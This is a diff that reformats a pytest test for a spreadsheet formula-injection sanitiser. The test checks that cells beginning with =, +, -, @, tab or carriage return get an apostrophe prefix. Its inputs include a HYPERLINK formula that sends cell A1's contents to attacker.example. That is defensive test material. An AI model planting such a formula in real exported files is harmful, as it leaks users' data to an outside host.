@@ -17,11 +17,23 @@ from tests.helpers import write_snapshot
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
 
 
-@pytest.mark.parametrize(("text", "safe"), [
-    (HYPERLINK, "'" + HYPERLINK), ("+44 1234", "'+44 1234"), ("-cmd", "'-cmd"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("\tcalc", "'\tcalc"), ("\rcalc", "'\rcalc"), ("-2.5", "-2.5"), ("+3.0", "+3.0"), ("12.5%", "12.5%"),
-    ("Team A", "Team A"), (12.5, 12.5), (None, None),
-])
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        ("+44 1234", "'+44 1234"),
+        ("-cmd", "'-cmd"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\tcalc", "'\tcalc"),
+        ("\rcalc", "'\rcalc"),
+        ("-2.5", "-2.5"),
+        ("+3.0", "+3.0"),
+        ("12.5%", "12.5%"),
+        ("Team A", "Team A"),
+        (12.5, 12.5),
+        (None, None),
+    ],
+)
 def test_text_that_would_start_a_formula_is_prefixed(text, safe):
     assert safe_text(text) == safe
 
